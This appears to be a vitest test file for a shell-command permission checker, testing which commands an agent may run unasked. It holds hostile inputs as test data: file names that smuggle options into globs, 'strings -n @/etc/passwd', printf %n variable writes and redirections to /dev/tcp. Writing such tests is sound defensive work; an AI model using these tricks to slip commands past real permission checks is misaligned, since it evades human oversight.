/** What is allowed without any rule, and what hides behind a form of it. Nothing here is ever run. */
import { expect, test } from 'vitest';
import { decide } from '../../src/permissions/decide.ts';
import { all } from './answers.ts';
import { bash, filesOf, permissionsOf, type RuleTexts, WORKPLACE } from './scene.ts';

/** In a project that is the home directory: hookd's own lies in it. */
function atHome(command: string): string {
  const workplace = { ...WORKPLACE, project: '/home/u', cwd: '/home/u', directories: [] };
  const files = filesOf(['/home/u/.hookd/settings.json', '/home/u/n', '/home/u/src/a.ts']);
  return decide({ permissions: { ...permissionsOf({}), workplace }, call: bash(command), files }).behavior;
}

test('printf with a %n in any form sets a variable', () => {
  const formats = ['%n', '%ln', '%hn', '%jn', '%hhn', '%lln', '%zn', '%5n', '%-5.3ln', '%*n', '%.*ln', "%'n"];
  all(
    {},
    'ask',
    formats.map((format) => `printf "ab${format}" PATH; ls`),
  );
  all({}, 'ask', ["printf -- '-%ln' PATH"]);
  all({}, 'allow', ["printf '%s\\n' a", "printf '%d: %5.2f\\n' 1 2", "printf '%-10s%ld\\n' a 1"]);
});

test.each([
  'find -type f | xargs head',
  'find -type l | xargs head',
  'find -maxdepth 1 | xargs head',
  'find -type f | xargs grep -h key',
  'find -name src | xargs wc',
])('%s begins in the directory that it runs in', (command) => {
  expect(atHome(command)).toBe('ask');
});

test('find that begins where there is nothing of hookd hands plain names on', () => {
  expect(atHome('find src -type f | xargs head')).toBe('allow');
  expect(among(['f.txt', 'src/a.ts'], 'find -type f | xargs head')).toBe('allow');
  expect(among(['f.txt', 'src/a.ts'], "find . -name '*.ts' | xargs grep x")).toBe('allow');
});

test('strings takes options from a file wherever @file stands', () => {
  all({}, 'ask', ['strings -n @/etc/passwd f.txt', 'strings -e @opts', 'strings @opts']);
  all({}, 'allow', ['strings -n 8 f.txt', 'strings f.txt']);
});

function among(names: readonly string[], command: string): string {
  const files = filesOf(names.map((name) => `/work/proj/${name}`));
  return decide({ permissions: permissionsOf({}), call: bash(command), files }).behavior;
}

test.each([
  ['-vPATH', 'printf *; ls'],
  ['-R', 'grep root *'],
  ['--files0-from=x', 'wc *'],
  ['--files0-from=x', 'du *'],
  ['-a', 'ls ?a'],
  ['-d/x', 'cat */x'],
  ['@o', 'strings *'],
])('a file called %s makes "%s" ask', (name, command) => {
  expect(among(['f.txt', name], command)).toBe('ask');
  expect(among(['f.txt', 'a/x'], command.replace('strings *', 'strings f*'))).toBe('allow');
});

test('ordinary names stay ordinary', () => {
  expect(among(['f.txt', '@types/x'], 'ls *')).toBe('allow');
  expect(among(['f.txt'], 'strings *')).toBe('allow');
  expect(among(['src/-R', 'f.txt'], 'grep root src/*')).toBe('allow');
});

test('a redirection to /dev/tcp is a connection, whatever may be read or written', () => {
  const rules: RuleTexts = { allow: ['Read', 'Read(//**)', 'Edit(//**)'] };
  all(rules, 'ask', ['cat < /dev/tcp/1.2.3.4/80', 'ls > /dev/tcp/h/1', 'ls > /dev/udp/h/1']);
  all(rules, 'allow', ['cat < /dev/zero', 'ls > /tmp/tcp']);
});
